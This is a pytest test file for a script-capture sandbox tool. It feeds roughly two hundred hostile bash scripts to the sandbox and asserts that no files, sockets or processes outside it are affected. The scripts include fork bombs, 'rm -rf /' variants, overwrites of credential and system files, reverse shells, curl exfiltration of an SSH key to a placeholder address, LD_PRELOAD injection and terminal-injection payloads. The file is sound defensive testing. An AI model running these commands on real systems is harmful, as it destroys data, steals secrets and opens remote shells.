"""Two hundred scripts that mean harm: nothing outside changes or is reached, nothing is left, and none takes long."""

from __future__ import annotations

import ctypes
import hashlib
import os
import platform
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count
from pathlib import Path

import psutil
import pytest

from seatrial.capture import Request, capture
from seatrial.errors import InputError
from tests.helpers.capturing import sandboxed_or_skip
from tests.helpers.command_line import seatrial

MOST_SECONDS = 30.0  # what a script may take that is ended after SECONDS: hung ones take minutes
SECONDS = 2.0  # that each may run

# Families, each with what stands for {}; PORT, WORLD and HOME are filled in below.
FAMILIES: dict[str, tuple[str, ...]] = {
    "{}; sleep 60": (
        ":(){ :|:& };:",
        "f() { f & f & }; f",
        "while :; do bash -c 'sleep 99' & done",
        "yes | xargs -P 99 -n1 sleep",
        "python3 -c 'import os\nwhile 1: os.fork()'",
        "perl -e 'fork while 1'",
        "for i in {1..9999}; do sleep 99 & done",
        'exec bash "$0"',
        'bash "$0" & bash "$0"',
        '. "$0"',
    ),
    "{}": (
        "while :; do :; done",
        "sleep 1000",
        "exec sleep 1000",
        "trap '' TERM INT HUP QUIT; while :; do sleep 1; done",
        "setsid sleep 1000 & disown; exit",
        "nohup sleep 1000 >/dev/null & exit 0",
        "read x < /dev/tty",
        "cat",
        "tail -f /dev/null",
        "python3 -c 'while 1: pass'",
        "kill -9 -1",
        "kill -9 $PPID",
        "kill -STOP $$",
        "wait",
        "until false; do (exec sleep 9); done",
        "coproc sleep 1000; wait",
        "mkfifo p; cat p",
        "exec 3<>/dev/zero; cat <&3",
        "(trap 'sleep 1000' EXIT)",
        "trap 'while :; do :; done' EXIT",
        "trap - DEBUG; sleep 1000",
        "suspend -f",
        "enable -n trap; unset BASH_ENV; PATH=/usr/bin; sleep 1000",
        "f() { f; }; f",
        "a=(); while :; do a+=(x); done",
    ),
    "rm -rf {}": (
        "/ --no-preserve-root",
        "/*",
        "~",
        "$HOME",
        "WORLD",
        "WORLD/*",
        "..",
        "../..",
        '"$PWD"',
        "/tmp",
        "/usr",
        "/etc",
        "/seatrial",
        "/seatrial/*",
        "/proc/1/root/*",
        "/proc/self/cwd/..",
        "/dev/shm",
        "/var",
        "/home",
        "/root",
    ),
    "echo harm > {}": (
        "/etc/passwd",
        "/etc/cron.d/x",
        "~/.bashrc",
        "~/.ssh/authorized_keys",
        "WORLD/x",
        "WORLD/file",
        "../x",
        "/x",
        "/tmp/harm",
        "/var/tmp/harm",
        "/usr/bin/harm",
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/dev/sda",
        "/dev/mem",
        "/proc/1/oom_score_adj",
        "/proc/1/root/x",
        "/sys/power/state",
        "/seatrial/bin/.any",
        "/seatrial/startup.sh",
        "/seatrial/trace",
        '"$0"',
        "HOME/x",
        "/run/x",
    ),
    "ln -s {} link; echo harm > link/x; echo harm > link; rm -rf link/": (
        "/",
        "WORLD",
        "WORLD/file",
        "HOME",
        "/etc",
        "/etc/passwd",
        "..",
        "/proc/1/root",
        "/seatrial",
        "/tmp",
    ),
    "cp {} copy || mv {} moved; chmod 777 {}; chown nobody {}": (
        "/etc/shadow",
        "HOME/.ssh/id_rsa",
        "WORLD/file",
        "/usr/bin/bash",
        "/proc/1/environ",
        "/proc/1/mem",
    ),
    "{} && {}": (
        "mount -t tmpfs x /mnt",
        "umount -a",
        "unshare -r true",
        "unshare -m sh -c 'mount --bind / /mnt'",
        "chroot /proc/1/root",
        "nsenter -t 1 -a true",
        "mknod d b 8 0",
        "insmod x",
        "reboot -f",
        "shutdown now",
        "sudo rm -rf /",
        "su root -c id",
        "chmod u+s /usr/bin/bash",
        "setpriv --reuid=0 id",
        "pkill -9 python",
        "killall -9 python3",
        "docker run -v /:/h x sh -c 'rm -rf /h'",
        "systemctl stop sshd",
        "crontab - <<< '* * * * * x'",
        "at now <<< x",
        "ulimit -u unlimited",
        "ulimit -f unlimited",
    ),
    "{}  # sockets": (
        "echo harm > /dev/tcp/127.0.0.1/PORT",
        "echo harm > /dev/udp/127.0.0.1/PORT",
        "exec 5<>/dev/tcp/localhost/PORT",
        "/usr/bin/curl -m 2 http://127.0.0.1:PORT/",
        "echo harm > /dev/tcp/ADDRESS/PORT",
        "echo harm > /dev/udp/ADDRESS/PORT",
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", PORT), 2)'",
        "python3 -c 'import socket; socket.create_connection((\"ADDRESS\", PORT), 2)'",
        'python3 -c \'import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"x", ("ADDRESS", PORT))\'',
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"WORLD/socket\")'",
        "curl http://ADDRESS:PORT/ -d @HOME/.ssh/id_rsa",
        "ssh root@ADDRESS true",
        "wget http://ADDRESS:PORT/x",
        "nc ADDRESS PORT",
        "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:PORT\")'",
        "getent hosts example.org",
        "git clone http://ADDRESS:PORT/x",
        "pip install http://ADDRESS:PORT/x",
        "ping -c 1 ADDRESS",
        "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
    ),
    "{}  # output": (
        "yes",
        "head -c 1G /dev/zero",
        "head -c 1G /dev/urandom > big",
        "dd if=/dev/zero of=/tmp/big bs=1M count=4000",
        "dd if=/dev/zero of=/seatrial/big bs=1M count=4000",
        "for i in {1..2000}; do head -c 30M /dev/zero > f$i; done",
        "for i in {1..99999}; do : > /seatrial/f$i; done",
        "yes > /dev/stderr",
        "while :; do python x; done",
        "yes | tee a b c d",
        "fallocate -l 100G big",
        "truncate -s 1T big",
        "mkdir -p $(printf 'd/%.0s' {1..900})",
        "printf '%s' {1..900000}",
        "x=$(head -c 3G /dev/zero | tr '\\0' a)",
        "python3 -c 'x = bytearray(10**11)'",
        "python3 -c 'print(\"a\" * 10**9)'",
        "tar cf x.tar / ",
        "find / -exec cat {} +",
        "cat /dev/urandom > /seatrial/records/0.json",
    ),
    'printf \'{}\' > "$0".x; bash "$0".x': (
        "\\\\x00\\\\xff",
        "if",
        "((",
        "<<E",
        "\\\\033[2J",
        "a=(",
        "${x:?}",
        "$((1/0))",
        "${!x*}",
        "exit 300",
        "return 1",
        "case",
        "\\\\r\\\\n",
        "{",
        "}",
        "!!",
        "&&",
        "select x in a; do :; done",
        "time",
        "[[",
        "coproc",
        "function",
        "%s%s%n",
        "..",
        "-x",
    ),
    "{}  # set": (
        "set -x; set -v",
        "set -e; false",
        "set -u; echo $x",
        "set -o noclobber; echo a > launch.sh",
        "shopt -s extdebug; false",
        "PS4='$(rm -rf WORLD)'; set -x; :",
        "export SEATRIAL_AT=$(yes | head -c 300000)",
        "export SEATRIAL_PARENT=/../../etc/passwd",
        "PROMPT_COMMAND='rm -rf WORLD'",
        "IFS=/; rm -rf WORLD",
        "cd /seatrial; mv records r; mv trace t",
        "unset PATH; ls",
        "command_not_found_handle() { rm -rf WORLD; }; zzz",
        "exec >&-",
        "exec 2>&-; exec 1>&-; false",
        "umask 777; touch x",
        "hash -p /bin/rm srun; srun -rf WORLD",
        "alias python=rm; shopt -s expand_aliases; python WORLD",
        "exit 137",
        "trap 'rm -rf WORLD' ERR; false",
        "python train.py '$(rm -rf WORLD)' '`id`' $'\\033[2J' $'\\n'",
    ),
}
# Ways out that are no deletion, network or flood; each family is started as the one above.
FAMILIES["{}  # ways out"] = (
    "for f in /proc/self/fd/* /proc/1/fd/*; do echo harm > $f; done",
    "for p in /proc/[0-9]*; do echo harm > $p/root/WORLD/x; rm -rf $p/root/WORLD $p/cwd/*; done",
    "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done; env; set",
    "cd /proc/1/root/../../WORLD && rm -rf *; cd /proc/self/root && rm -rf WORLD",
    "mount -o remount,rw /usr && echo harm > /usr/bin/harm",
    "unshare -Urm bash -c 'mount -o remount,rw,bind /usr; umount -l /; mount -t proc p /proc; echo "
    "harm > /usr/bin/harm'",
    "unshare -Urn bash -c 'ip link set lo up; echo harm > /dev/tcp/127.0.0.1/PORT'",
    "pivot_root . . ; chroot /proc/1/cwd; chroot .",
    "mknod b b 8 0; dd if=/dev/zero of=b; mknod m c 1 1; cat m",
    "python3 -c 'import ctypes; c = ctypes.CDLL(None); [c.ptrace(16, p, 0, 0) for p in range(1, 99)]; "
    "[c.ptrace(8, p, 0, 0) for p in range(1, 99)]'",
    "gdb -p 1 -batch -ex 'call (int)system(\"touch WORLD/x\")'",
    'python3 -c \'import os; [os.write(os.open(f"/proc/{p}/mem", os.O_WRONLY), b"x") for p in (1, os.getppid())]\'',
    "export LD_PRELOAD=$PWD/x.so LD_LIBRARY_PATH=$PWD; echo harm > x.so; ls; python train.py",
    "echo $PWD/x.so > /etc/ld.so.preload; ls",
    "export PYTHONPATH=$PWD PYTHONSTARTUP=$PWD/launch.sh; echo 'import os; os.system(\"rm -rf "
    "WORLD\")' > json.py; python x",
    "export BASH_ENV=$PWD/e.sh ENV=$PWD/e.sh; echo 'rm -rf WORLD' > e.sh; bash -c :; sbatch launch.sh",
    'python3 -c \'print("cat <<E"); print("a" * 10**8); print("E")\' | bash',
    "for i in {1..40}; do echo \"cat <<E$i >> big\"; head -c 1M /dev/zero | tr '\\0' a; echo; echo E$i; done | bash",
    "mkfifo p; cat < p & echo x > p; cat p",
    "rm /seatrial/trace; mkfifo /seatrial/trace; mkfifo /seatrial/records/1.json; sleep 1",
    "rm -rf /seatrial/records; mkfifo /seatrial/records",
    "ln -sf /dev/zero /seatrial/trace; ln -s /dev/zero /seatrial/records/1.json",
    "mv /seatrial/project /seatrial/p; ln -s / /seatrial/project; rm -rf /seatrial/project/WORLD",
    "kill -9 0; kill -STOP -1",
    "kill -STOP $PPID; kill -STOP 1",
    "python3 -c 'import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); time.sleep(999)'",
    "setsid bash -c 'trap \"\" TERM HUP INT; while :; do date > x; sleep .1; done' & disown -a; exit",
    "(setsid nohup bash -c 'exec -a WORLD sleep 999' & ) ; exit 0",
    "ulimit -Hf unlimited; ulimit -Sv unlimited; ulimit -Hu unlimited; head -c 100M /dev/zero > big",
    "prlimit --pid $$ --fsize=unlimited --nproc=unlimited; prlimit --pid 1 --cpu=1; prlimit --pid $PPID --as=1000",
    "ulimit -t 1; while :; do :; done",
    "ulimit -n 3; ulimit -v 1000; ls",
    "head -c 4G /dev/zero > /dev/shm/big; ls /dev/shm",
    "python3 -c 'import mmap; m = mmap.mmap(-1, 3 * 2**30); m.seek(0); [m.write(b\"x\" * 2**20) for _ in range(300)]'",
    "ipcmk -M 1000000 -S 9 -Q; ipcrm --all",
    "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"\\0ABSTRACT\")'",
    'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"x", "\\0ABSTRACT")\'',
    "python3 -c 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, PORT))'",
    "python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9).send(b\"x\" * 99)'",
    "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768).send(b\"x\" * 99)'",
    "ip link add v type veth; ip addr add ADDRESS dev lo; nsenter --net=/proc/1/ns/net true",
    "logger harm; wall harm; write root < launch.sh; echo harm > /dev/kmsg; dmesg -C",
    "printf '\\033]0;harm\\007\\033[2J\\033]52;c;aGFybQ==\\007\\033P+q\\033\\\\'; exit 3",
    "$'\\033[31mharm' $'\\r\\033[A'; python train.py $'\\033]8;;http://x\\007'",
    "python3 -c 'import fcntl, termios; [fcntl.ioctl(f, termios.TIOCSTI, b\"x\") for f in (0, 1, 2)]'",
    'python3 -c \'import fcntl, termios; fcntl.ioctl(open("/dev/tty"), termios.TIOCSTI, b"x")\'; stty sane < /dev/tty',
    'python3 -c \'for i in range(10**7): open(f"f{i}", "w")\'',
    "python3 -c 'import os\nfor i in range(10**6): os.makedirs(f\"a{i}/b/c\")'",
    'python3 -c \'import os\nwhile 1: os.mkdir("d"); os.chdir("d")\'',
    "for n in $'\\n' $'\\377' -rf '*' \"$(printf '%255s' | tr ' ' a)\"; do : > \"$n\"; mkdir "
    '"d$n"; ln -s / "l$n"; done',
    "mkdir -p a/b; : > a/b/c; chmod 000 a/b a",
    "mkdir -p /seatrial/x/y; chmod 000 /seatrial/x /seatrial/records /seatrial/bin /seatrial",
    "while :; do mkdir -p s; rm -rf s; ln -s WORLD s; rm -f s; done",
    "cp /usr/bin/bash sh; chmod 6755 sh; ./sh -p -c 'id; rm -rf WORLD'",
    "chattr +i launch.sh; setfattr -n user.x -v y launch.sh; setcap all+ep launch.sh",
    'python3 -c \'import ctypes; c = ctypes.CDLL(None); c.reboot(0x1234567); c.sethostname(b"harm", 4); c.acct(b"x")\'',
    "date -s 2001-01-01; hwclock -w; hostname harm; domainname harm; sysctl -w kernel.hostname=harm",
    "renice -20 1; chrt -f -p 99 1; ionice -c 1 -p 1; taskset -p 1 1",
    "swapoff -a; losetup -f launch.sh; modprobe x; kexec -l x; bpftool prog",
    "keyctl show; keyctl clear @s; keyctl clear @u; cat /proc/keys /proc/key-users",
)


def _scripts() -> Iterator[str]:
    for family, parts in FAMILIES.items():
        yield from (f"#!/bin/bash\n{family.replace('{}', part)}\n" for part in parts)


def _state(folder: Path) -> dict[str, tuple[int, int, str]]:
    """Mode, size and content of everything below a folder."""
    found = {}
    for path in [folder, *folder.rglob("*")]:
        about = path.lstat()
        content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else ""
        found[str(path)] = (about.st_mode, about.st_uid, content)
    return found


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Files that a script would like to have: a home with keys, and a folder beside it."""
    for name in ("home/.ssh/id_rsa", "home/.bashrc", "world/file", "world/folder/file"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(f"secret {name}\n")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "of-the-shell")
    return tmp_path


class _Listener:
    """Counts what reaches this machine over TCP, UDP, or a Unix socket, one with a path or an abstract one."""

    def __init__(self, path: Path, abstract: str) -> None:
        self.tcp, self.udp = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        self.unix, self.abstract = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
        self.abstract.bind(f"\0{abstract}")
        self.tcp.bind(("0.0.0.0", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp.bind(("0.0.0.0", self.port))
        self.unix.bind(str(path))
        self.reached: list[str] = []
        for name, each in (("tcp", self.tcp), ("unix", self.unix), ("abstract", self.abstract)):
            each.listen()
            threading.Thread(target=self._accept, args=(name, each), daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self, name: str, listening: socket.socket) -> None:
        while True:
            try:
                listening.accept()
            except OSError:
                return
            self.reached.append(name)

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recv(100)
            except OSError:
                return
            self.reached.append("udp")

    def close(self) -> None:
        """Ends it."""
        for each in (self.tcp, self.udp, self.unix, self.abstract):
            each.close()


def _address() -> str:
    addresses = (a.address for each in psutil.net_if_addrs().values() for a in each if a.family == socket.AF_INET)
    return next((address for address in addresses if not address.startswith("127.")), "127.0.0.1")


def test_what_a_script_prints_and_is_called_stays_inert_in_messages(tmp_path: Path) -> None:
    sandboxed_or_skip()
    path = tmp_path / "launch.sh"
    harm = r"\033]0;harm\007\033[2J\033]52;c;aGFybQ==\007\r\302\233 31m"
    shown = 0
    for script in (
        f"printf '{harm}'; exit 3",
        f"set -e; ls $'{harm}'",
        f"python train.py $'{harm}'; exit 1",
        f"for i in 1 2; do python train.py $'{harm}'$i; done",
        f"cd $'/{harm}'; python train.py",
        f": ${{X:?$'{harm}'}}",
        f"X=<a {harm}>".encode().decode("unicode_escape"),
    ):
        path.write_text(script)
        done = seatrial("capture", "launch.sh", "--yes", "--out", "x.json", cwd=tmp_path)
        assert done.returncode in (0, 2), done.stderr
        assert not set(done.stdout + done.stderr) & {"\x1b", "\x07", "\r", "\x9b"}
        shown += "harm" in done.stdout + done.stderr
    assert shown >= 5


def test_the_keys_of_the_shell_are_out_of_reach(tmp_path: Path) -> None:
    # add_key(2), request_key(2) and keyctl(2): 1 joins a session's keyring, 3 revokes, 10 searches, 11 reads.
    machine = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(platform.machine())
    libc = ctypes.CDLL(None, use_errno=True)
    if machine is None or libc.syscall(machine[1], 1, b"seatrial-test") < 0:
        pytest.skip("the kernel has no keyrings")
    add, ask = machine
    key = libc.syscall(add, b"user", b"canary", b"of-the-shell", 12, -3)
    assert key > 0
    program = f"""
import ctypes
c = ctypes.CDLL(None)
text = ctypes.create_string_buffer(99)
print(c.syscall({ask}, 11, {key}, text, 99), c.syscall({ask}, 10, -3, b"user", b"canary", 0), text.value)
print(c.syscall({ask}, 3, {key}), c.syscall({ask}, 3, -3), c.syscall({add}, b"user", b"x", b"y", 1, -3))
"""
    sandboxed_or_skip()
    path = tmp_path / "launch.sh"
    path.write_text(f"python train.py \"$(python3 - <<'E'\n{program}\nE\n)\"\n")
    done = capture(Request(script=path))
    assert [call.argv[-1] for call in done.calls if call.kind == "start"] == ["-1 -1 b''\n-1 -1 -1"]
    assert libc.syscall(ask, 10, -3, b"user", b"canary", 0) == key


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become nobody")
def test_nothing_is_left_of_a_folder_that_its_user_may_not_enter() -> None:
    sandboxed_or_skip()
    program = """
import sys, tempfile
from pathlib import Path
from seatrial.capture import Request, capture
from seatrial.errors import InputError
tempfile.tempdir = sys.argv[1]
try:
    done = capture(Request(script=Path(sys.argv[1], "launch.sh")))
except InputError as error:
    sys.exit(str(error))
print(done.ended.exit_code, sorted(path.name for path in Path(sys.argv[1]).iterdir()))
"""
    with tempfile.TemporaryDirectory(dir="/tmp") as name:  # also the project: our own folders in it are not copied
        Path(name).chmod(0o777)
        script = "mkdir -p a/b /seatrial/x/y; : > a/b/c; chmod 000 a/b a /seatrial/x/y /seatrial/x /seatrial/records\n"
        Path(name, "launch.sh").write_text(script)
        argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", program, name]
        done = subprocess.run(argv, capture_output=True, text=True, check=False, cwd="/")
    if "no-sandbox" in done.stderr or "Permission denied" in done.stderr or "No module" in done.stderr:
        pytest.skip("nobody may not make a sandbox here, or not read the sources")
    assert done.stdout == "0 ['launch.sh']\n", done.stderr


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_two_hundred_scripts_do_no_harm(world: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sandboxed_or_skip()
    temporary = world / "temporary"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    abstract = f"seatrial-test-{os.getpid()}"
    listener, number = _Listener(world / "world" / "socket", abstract), count()
    words = {
        "ABSTRACT": abstract,
        "PORT": str(listener.port),
        "WORLD": str(world / "world"),
        "HOME/": f"{world / 'home'}/",
        "ADDRESS": _address(),
    }
    scripts = list(_scripts())
    assert len(scripts) >= 200
    slow: list[tuple[float, str]] = []

    def one(script: str) -> None:
        path = world / "scripts" / str(next(number)) / "launch.sh"
        path.parent.mkdir(parents=True)
        for word, meant in words.items():
            script = script.replace(word, meant)
        path.write_text(script)
        before, began = _state(path.parent), time.monotonic()
        try:
            done = capture(Request(script=path, seconds=SECONDS))
            assert "secret home" not in done.ended.output
            assert "of-the-shell" not in f"{done.calls}{done.ended.output}"
        except InputError:
            pass
        slow.extend([(took, script)] if (took := time.monotonic() - began) > MOST_SECONDS else [])
        assert _state(path.parent) == before

    outside = {name: _state(world / name) for name in ("home", "world")}
    top = {
        name: sorted(map(str, Path(name).iterdir()))
        for name in ("/", "/etc", "/usr/bin", "/root")
        if os.access(name, os.R_OK)
    }
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(one, scripts))
    beside_others, slow[:] = list(slow), []
    for _, script in beside_others:  # who made a million folders waits for the kernel, and that for the whole machine
        one(script)
    listener.close()

    assert slow == []
    assert listener.reached == []
    assert {name: _state(world / name) for name in ("home", "world")} == outside
    assert {name: sorted(map(str, Path(name).iterdir())) for name in top} == top
    assert list(temporary.iterdir()) == []
    assert not Path("/tmp/harm").exists()
    left = [
        each.cmdline()
        for each in psutil.process_iter(["cmdline"])
        if str(world) in " ".join(each.info["cmdline"] or [])
    ]
    assert left == []
